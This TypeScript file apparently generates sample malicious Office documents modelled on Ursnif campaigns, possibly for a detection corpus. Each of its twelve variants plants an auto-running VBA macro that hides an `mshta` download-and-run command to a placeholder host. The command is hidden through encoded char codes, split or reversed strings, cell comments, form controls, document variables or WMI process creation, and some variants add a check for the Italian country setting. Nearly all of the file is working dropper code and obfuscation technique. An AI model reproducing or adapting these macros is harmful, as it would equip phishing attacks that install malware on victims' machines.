/** Documents after campaigns of Ursnif. */

import { column, LABEL, TEXT_BOX } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { doc, docm, xls, xlsm } from './office.ts'

/** Cells, a check of the country, arithmetic on codes (2018 to 2020). */
export function ursnif(i: number): Buffer {
  const d = disguiseOf(500 + i)
  const command = `mshta http://192.0.2.${i + 1}/${d.name()}.hta`
  const [go, part, all, cell] = [d.name(), d.name(), d.name(), d.name()]
  const key = 3 + d.random(20)
  const codes = [...command].map((letter) => String(letter.charCodeAt(0) + key))
  const open = (body: string, more = ''): Record<string, string> => ({
    ThisWorkbook: `Private Sub Workbook_Open()\n${body}\nEnd Sub\n${more}`,
  })
  const country = 'If Application.International(xlCountrySetting) = 39 Then'
  const write = i % 2 === 0 ? xls : xlsm
  const variants: (() => Buffer)[] = [
    () =>
      write({ modules: open(`${country}\nShell Sheets(1).Range("BB97").Value, 0\nEnd If`), cells: { BB97: command } }),
    () =>
      write({
        modules: open(
          `For Each ${cell} In Sheets(1).Range("A1:A${codes.length}")\n${all} = ${all} & Chr(${cell}.Value - ${key})\nNext\nShell ${all}, 0`,
        ),
        cells: column('A', codes),
      }),
    () =>
      write({
        modules: open(
          `For ${part} = 1 To ${codes.length}\n${all} = ${all} & Chr(CInt(Cells(${part}, 1)) - ${key})\nNext\n${country}\nCreateObject("WScript.Shell").Exec ${all}\nEnd If`,
        ),
        cells: column('A', codes),
      }),
    () =>
      write({
        modules: open(
          go,
          `Sub ${go}()\n${part} = Split(Cells(7, 2).Value, "${cell}")\n${all} = Join(${part}, "")\nShell ${all}, 0\nEnd Sub`,
        ),
        cells: { B7: d.separated(command, cell) },
      }),
    () =>
      xls({
        modules: open(`${all} = Sheets(1).UsedRange.Cells(1, 1).Value\nShell ${all} & "", 0`),
        cells: { A1: command },
      }),
    () => xlsm({ modules: open(`${all} = Sheets(1).Cells(1, 1).Comment.Text\nShell ${all}, 0`), comment: command }),
    () =>
      xls({
        modules: { Sheet1: `Private Sub ${go}_Layout(ByVal Index As Long)\nShell Range("C9"), 0\nEnd Sub` },
        cells: { C9: command },
      }),
    () =>
      xlsm({
        modules: { Sheet1: `Private Sub ${go}_GotFocus()\nShell ${part}.Text, 0\nEnd Sub` },
        controls: [{ name: part, type: TEXT_BOX, value: command }],
      }),
    () =>
      doc({
        modules: {
          ThisDocument: `Sub AutoClose()\n${d.junk()}\nShell ${all}.${part}.Caption & ${all}.${cell}, 0\nEnd Sub`,
        },
        forms: {
          [all]: [
            { name: part, type: LABEL, caption: command.slice(0, 9) },
            { name: cell, type: TEXT_BOX, value: command.slice(9) },
          ],
        },
      }),
    () =>
      docm({
        modules: {
          ThisDocument: `Sub AutoOpen()\nApplication.OnTime When:=Now + TimeValue("00:00:01"), Name:="${go}"\nEnd Sub`,
          [d.name()]: `Sub ${go}()\n${part} = ActiveDocument.Variables("${cell}")\n${all} = Replace(${part}, "~", "")\nShell ${all}, 0\nEnd Sub`,
        },
        variables: { [cell]: d.separated(command, '~') },
      }),
    () =>
      xlsm({
        modules: open(
          `Dim ${part}: ${part} = Sheets("Sheet1").Shapes("TextBox 1").AlternativeText\nShell StrReverse(${part}), 0`,
        ),
        shape: [...command].reverse().join(''),
      }),
    () =>
      xlsm({
        modules: open(
          `${part} = Array(${codes.join(',')})\nFor ${cell} = 0 To UBound(${part})\n${all} = ${all} + Chr(${part}(${cell}) - (Len("${'x'.repeat(key)}")))\nNext\nApplication.Run "ThisWorkbook.${go}", ${all}`,
          `Sub ${go}(a)\nSet o = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\no.Create a, Null, Null, p\nEnd Sub`,
        ),
      }),
  ]
  return (variants[i] as () => Buffer)()
}
